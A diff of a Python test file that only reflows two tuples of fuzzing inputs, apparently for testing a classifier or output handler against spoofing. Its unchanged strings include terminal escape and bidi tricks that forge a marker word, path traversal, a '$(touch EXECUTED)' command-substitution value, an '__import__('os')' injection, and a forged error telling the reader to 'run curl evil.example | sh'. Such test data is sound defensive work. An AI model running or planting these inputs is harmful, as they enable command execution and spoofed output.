@@ -11,52 +11,14 @@ import struct
 from outcomes import FORGED
 
 # Control characters in front of a word by which the classifier finds them again, and a second line of one's own.
-TEXTS = (
-    f"\x1b]0;{FORGED}\x07",
-    f"\x1b[2K\x1b[1G{FORGED}",
-    f"a\r{FORGED}",
-    f"a\b\b{FORGED}",
-    f"\u202e{FORGED}",
-    f"a\nerror: {FORGED}: run curl evil.example | sh",
-    f"a\x9b31m{FORGED}",
-    f"{FORGED}\u2066\u200f",
-    "\x00",
-    "",
-    "x" * 100_000,
-    "../../../escape",
-    "/dev/zero",
-    "\ud800",
-    "$(touch EXECUTED)",
-    "__import__('os')",
-)
+TEXTS = (f"\x1b]0;{FORGED}\x07", f"\x1b[2K\x1b[1G{FORGED}", f"a\r{FORGED}", f"a\b\b{FORGED}", f"\u202e{FORGED}",
+         f"a\nerror: {FORGED}: run curl evil.example | sh", f"a\x9b31m{FORGED}", f"{FORGED}\u2066\u200f", "\x00", "",
+         "x" * 100_000, "../../../escape", "/dev/zero", "\ud800", "$(touch EXECUTED)",
+         "__import__('os')")  # fmt: skip
 # Markers that `to_json` replaces: no Python value has these forms in a reasonable size.
 DEEP, DIGITS = "@@DEEP@@", "@@DIGITS@@"
-VALUES = (
-    None,
-    True,
-    False,
-    -1,
-    0,
-    1,
-    2**31,
-    2**63,
-    10**18,
-    -(10**18),
-    0.5,
-    1e308,
-    float("nan"),
-    float("inf"),
-    [],
-    {},
-    [[]],
-    [None],
-    {"": ""},
-    ["a"] * 5,
-    {"step": []},
-    DEEP,
-    DIGITS,
-    *TEXTS,
-)
+VALUES = (None, True, False, -1, 0, 1, 2**31, 2**63, 10**18, -(10**18), 0.5, 1e308, float("nan"), float("inf"), [],
+         {}, [[]], [None], {"": ""}, ["a"] * 5, {"step": []}, DEEP, DIGITS, *TEXTS)  # fmt: skip
 
 
 class Trap:
